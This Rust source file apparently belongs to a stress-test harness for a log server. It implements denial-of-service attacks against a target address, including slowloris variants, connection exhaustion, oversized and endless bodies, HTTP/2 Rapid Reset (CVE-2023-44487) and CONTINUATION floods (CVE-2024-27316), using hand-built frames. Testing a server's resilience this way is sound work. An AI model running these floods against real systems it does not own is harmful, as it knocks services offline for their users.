//! What is done to the server: each kind of abuse by many connections, from a process of its own, for a while.

use std::io::Error;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use bytes::Bytes;
use clap::ValueEnum;
use futures_util::future::try_join_all;
use http_body_util::{BodyExt as _, Full};
use hyper::Request;
use hyper::client::conn::http2::handshake;
use hyper::header::AUTHORIZATION;
use hyper::http;
use hyper_util::rt::{TokioExecutor, TokioIo};
use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};

use crate::programs::ENTRY_BYTES;

/// What is done.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub(crate) enum Attack {
    /// Headers that come a byte at a time and never end.
    SlowHeaders,
    /// Bodies that come a byte at a time.
    SlowBodies,
    /// Large answers that nobody reads.
    SlowReads,
    /// Connections that are opened, asked once and left.
    Connections,
    /// Connections that are opened and say nothing, past the server's limit.
    IdleConnections,
    /// Bodies longer than the server takes, as fast as it takes them.
    HugeBodies,
    /// Chunked bodies without an end.
    EndlessBodies,
    /// HTTP/2 streams that are opened and reset (CVE-2023-44487).
    H2Resets,
    /// HTTP/2 headers without an end (CVE-2024-27316).
    H2Continuations,
    /// As many honest requests at once as HTTP/2 streams allow.
    H2Streams,
    /// The same with appends, so that as many wait for the writer as may.
    H2Appends,
    /// Appends of large batches, each as soon as the one before is answered.
    Batches,
    /// Readers who follow a stream of records, and take every event.
    Followers,
    /// Reports of all records, one after the other.
    Reports,
    /// Searches that open as many records as one may.
    Searches,
}

/// What the attackers got done.
#[derive(Debug, Default, Clone, Serialize, Deserialize)]
pub(crate) struct Done {
    /// Connections that were opened.
    pub(crate) connections: u64,
    /// Connections that the server closed, or refused to open.
    pub(crate) closed: u64,
    /// Bytes sent.
    pub(crate) bytes: u64,
    /// Honest requests that were refused.
    pub(crate) refused: u64,
}

#[derive(Default)]
struct Counts {
    connections: AtomicU64,
    closed: AtomicU64,
    bytes: AtomicU64,
    refused: AtomicU64,
}

/// The pace of whoever is slow.
const PACE: Duration = Duration::from_millis(500);
/// How long to wait before a connection that was closed is opened again: nobody is that patient with a real attack, but
/// the attackers must not be what is measured.
const AGAIN: Duration = Duration::from_millis(20);
/// Bytes that are sent at once.
const PIECE: usize = 64 << 10;
/// Entries of a batch.
const BATCH_ENTRIES: usize = 2_000;
/// The frames of HTTP/2 that open and reset one stream, so many at once.
const STREAMS: u32 = 100;

impl Attack {
    /// How many connections take part.
    pub(super) const fn connections(self) -> usize {
        match self {
            Self::SlowHeaders | Self::SlowBodies => 2_000,
            // More than the server's limit of 8,192.
            Self::IdleConnections => 9_000,
            Self::SlowReads => 500,
            Self::Connections | Self::HugeBodies | Self::EndlessBodies => 64,
            Self::H2Resets | Self::H2Continuations => 32,
            Self::H2Streams | Self::H2Appends => 200,
            Self::Batches => 32,
            Self::Followers => 500,
            Self::Reports | Self::Searches => 32,
        }
    }

    /// Whether records are what is asked for: then those who bring records are asked what they notice.
    pub(crate) const fn reads_records(self) -> bool {
        matches!(self, Self::Followers | Self::Reports | Self::Searches)
    }

    /// Does it for a time.
    pub(crate) async fn run(self, address: SocketAddr, token: String, time: Duration) -> Done {
        let (counts, token) = (Arc::new(Counts::default()), Arc::new(token));
        let tasks: Vec<_> = (0..self.connections())
            .map(|_| {
                let (counts, token) = (Arc::clone(&counts), Arc::clone(&token));
                tokio::spawn(timeout(time, async move { self.again_and_again(address, &token, &counts).await }))
            })
            .collect();
        for task in tasks {
            let _ = task.await;
        }
        Done {
            connections: counts.connections.load(Ordering::Relaxed),
            closed: counts.closed.load(Ordering::Relaxed),
            bytes: counts.bytes.load(Ordering::Relaxed),
            refused: counts.refused.load(Ordering::Relaxed),
        }
    }

    async fn again_and_again(self, address: SocketAddr, token: &str, counts: &Counts) {
        loop {
            if let Ok(stream) = TcpStream::connect(address).await {
                counts.connections.fetch_add(1, Ordering::Relaxed);
                // It ends when the server ends it.
                let _ = self.once(stream, token, counts).await;
            }
            counts.closed.fetch_add(1, Ordering::Relaxed);
            sleep(AGAIN).await;
        }
    }

    async fn once(self, mut stream: TcpStream, token: &str, counts: &Counts) -> std::io::Result<()> {
        let post = |length: &str| {
            format!("POST /logs/main/add HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {token}\r\n{length}\r\n\r\n")
        };
        match self {
            Self::H2Streams => requests(stream, || Request::get(PROOF).body(Full::default()), counts).await,
            Self::H2Appends => requests(stream, || append(token), counts).await,
            Self::SlowHeaders => {
                send(&mut stream, b"GET /logs/main/head HTTP/1.1\r\nhost: x\r\n", counts).await?;
                drip(&mut stream, b"x: y\r\n", counts).await
            }
            Self::SlowBodies => {
                send(&mut stream, post("content-length: 60000").as_bytes(), counts).await?;
                drip(&mut stream, b"x", counts).await
            }
            Self::SlowReads => {
                let ask = "GET /logs/main/tile/entries/000 HTTP/1.1\r\nhost: x\r\n\r\n".repeat(64);
                send(&mut stream, ask.as_bytes(), counts).await?;
                // Nothing is read: a second such request fails once the server has gone.
                drip(&mut stream, b"GET / HTTP/1.1\r\nhost: x\r\n\r\n", counts).await
            }
            Self::Connections => {
                send(&mut stream, b"GET /logs/main/head HTTP/1.1\r\nhost: x\r\n\r\n", counts).await?;
                stream.read_exact(&mut [0; 12]).await.map(drop)
            }
            Self::IdleConnections => stream.read(&mut [0; 64]).await.map(drop),
            Self::HugeBodies => {
                send(&mut stream, post("content-length: 1073741824").as_bytes(), counts).await?;
                flood(&mut stream, &vec![b'x'; PIECE], counts).await
            }
            Self::EndlessBodies => {
                send(&mut stream, post("transfer-encoding: chunked").as_bytes(), counts).await?;
                let chunk = [format!("{PIECE:x}\r\n").into_bytes(), vec![b'x'; PIECE], b"\r\n".to_vec()].concat();
                flood(&mut stream, &chunk, counts).await
            }
            Self::H2Resets => {
                send(&mut stream, H2_PREFACE, counts).await?;
                for first in (1..).step_by(2 * STREAMS as usize) {
                    send(&mut stream, &resets(first), counts).await?;
                }
                Ok(())
            }
            Self::H2Continuations => {
                send(&mut stream, H2_PREFACE, counts).await?;
                send(&mut stream, &frame(1, 0, 1, H2_REQUEST), counts).await?;
                // An indexed field of the static table, again and again.
                flood(&mut stream, &frame(9, 0, 1, &[0x90; 8_192]), counts).await
            }
            Self::Batches => batches(&mut stream, token, counts).await,
            Self::Followers => ask(&mut stream, token, FOLLOWED, counts).await,
            Self::Reports => ask(&mut stream, token, "/v1/reports?tenant=pb.amritsar", counts).await,
            Self::Searches => ask(&mut stream, token, SEARCH, counts).await,
        }
    }
}

/// The events of an object that has records as soon as there are any.
const FOLLOWED: &str =
    "/v1/streams/entity/pb.amritsar/tradelicense/eg_tl_tradelicense/PB-TL-2026-000000/events?from_seq=0";
/// A page with as many records as there may be in one.
const SEARCH: &str = "/v1/records?tenant=pb.amritsar&operation=update&limit=500&proof=1";

/// A proof that any log with entries has.
const PROOF: &str = "http://x/logs/main/proof/inclusion?index=5";

const H2_PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// HPACK (RFC 7541) of `GET http://x/`.
const H2_REQUEST: &[u8] = &[0x82, 0x86, 0x84, 0x41, 0x01, b'x'];

/// A frame of HTTP/2 (RFC 9113, section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// HEADERS that end a stream's request, and RST_STREAM (CANCEL), for many streams.
fn resets(first: u32) -> Vec<u8> {
    let streams = (first..).step_by(2).take(STREAMS as usize);
    streams.flat_map(|stream| [frame(1, 5, stream, H2_REQUEST), frame(3, 0, stream, &[0, 0, 0, 8])].concat()).collect()
}

/// An append of one entry.
fn append(token: &str) -> http::Result<Request<Full<Bytes>>> {
    let entry = Full::from(vec![b'x'; ENTRY_BYTES]);
    Request::post("http://x/logs/main/add").header(AUTHORIZATION, format!("Bearer {token}")).body(entry)
}

/// Appends batches, one after the other.
async fn batches(stream: &mut TcpStream, token: &str, counts: &Counts) -> std::io::Result<()> {
    let length = u16::try_from(ENTRY_BYTES).map_err(Error::other)?.to_be_bytes();
    let body = [&length[..], &[b'x'; ENTRY_BYTES]].concat().repeat(BATCH_ENTRIES);
    let header = format!(
        "POST /logs/main/entries HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {token}\r\n\
         content-type: application/vnd.cairn.entries\r\ncontent-length: {}\r\n\r\n",
        body.len()
    );
    let mut answer = [0; 4 << 10];
    loop {
        send(stream, header.as_bytes(), counts).await?;
        send(stream, &body, counts).await?;
        // Small enough to come at once.
        if stream.read(&mut answer).await? == 0 {
            return Ok(());
        }
        if !answer.starts_with(b"HTTP/1.1 200") {
            counts.refused.fetch_add(1, Ordering::Relaxed);
        }
    }
}

/// Asks by an HTTP/2 client, in as many streams as there are, each again as soon as it is answered.
async fn requests(
    stream: TcpStream,
    request: impl Fn() -> http::Result<Request<Full<Bytes>>>,
    counts: &Counts,
) -> std::io::Result<()> {
    let (sender, connection) = handshake(TokioExecutor::new(), TokioIo::new(stream)).await.map_err(Error::other)?;
    let asking = (0..STREAMS).map(|_| {
        let (mut sender, request) = (sender.clone(), &request);
        async move {
            loop {
                sender.ready().await.map_err(Error::other)?;
                let answer = sender.send_request(request().map_err(Error::other)?).await.map_err(Error::other)?;
                if !answer.status().is_success() {
                    counts.refused.fetch_add(1, Ordering::Relaxed);
                }
                let body = answer.into_body().collect().await.map_err(Error::other)?;
                counts.bytes.fetch_add(body.to_bytes().len() as u64, Ordering::Relaxed);
            }
        }
    });
    let asked = async { try_join_all(asking).await.map(|_: Vec<()>| ()) };
    tokio::select! {
        ended = connection => ended.map_err(Error::other),
        ended = asked => ended,
    }
}

async fn send(stream: &mut TcpStream, bytes: &[u8], counts: &Counts) -> std::io::Result<()> {
    stream.write_all(bytes).await?;
    counts.bytes.fetch_add(bytes.len() as u64, Ordering::Relaxed);
    Ok(())
}

/// Asks for something, and reads all of the answer.
async fn ask(stream: &mut TcpStream, token: &str, target: &str, counts: &Counts) -> std::io::Result<()> {
    let header = format!("host: x\r\nauthorization: Bearer {token}\r\nconnection: close");
    send(stream, format!("GET {target} HTTP/1.1\r\n{header}\r\n\r\n").as_bytes(), counts).await?;
    let mut sink = vec![0; PIECE];
    while stream.read(&mut sink).await? > 0 {}
    Ok(())
}

async fn drip(stream: &mut TcpStream, bytes: &[u8], counts: &Counts) -> std::io::Result<()> {
    loop {
        sleep(PACE).await;
        send(stream, bytes, counts).await?;
    }
}

/// Sends without a pause; what the server says is read meanwhile, so that it never waits for us.
async fn flood(stream: &mut TcpStream, bytes: &[u8], counts: &Counts) -> std::io::Result<()> {
    let (mut reading, mut writing) = stream.split();
    let mut sink = vec![0; PIECE];
    let read = async {
        while reading.read(&mut sink).await? > 0 {}
        Ok(())
    };
    let write = async {
        loop {
            writing.write_all(bytes).await?;
            counts.bytes.fetch_add(bytes.len() as u64, Ordering::Relaxed);
        }
    };
    tokio::select! {
        ended = read => ended,
        ended = write => ended,
    }
}
